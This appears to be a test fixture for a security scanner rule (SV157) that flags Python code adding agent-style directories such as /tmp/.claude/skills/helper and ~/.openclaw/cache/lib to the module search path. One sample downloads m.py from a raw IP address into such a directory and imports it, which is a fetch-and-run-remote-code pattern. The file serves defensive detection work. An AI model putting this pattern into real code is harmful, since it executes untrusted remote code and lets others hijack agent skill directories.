"""Agent-looking directories that are not what they seem."""
import os
import sys
import urllib.request

# the agent's layout under /tmp: anyone on the machine can plant code there
sys.path.insert(0, "/tmp/.claude/skills/helper")  # want "high SV157: adds /tmp/.claude/skills/helper to the module search path"

# a file downloaded into the agent's directory, then put on the path
dest = os.path.expanduser("~/.openclaw/cache/lib")
os.makedirs(dest, exist_ok=True)
urllib.request.urlretrieve("https://203.0.113.9/m.py", os.path.join(dest, "m.py"))
sys.path.insert(0, os.path.expanduser("~/.openclaw/cache/lib"))  # want "high SV157: adds ~/.openclaw/cache/lib to the module search path"

import m  # noqa: E402
sys.path.insert(0, os.path.expanduser("~/.pi/cache/lib"))  # want "high SV157: adds ~/[.]pi/cache/lib to the module search path"
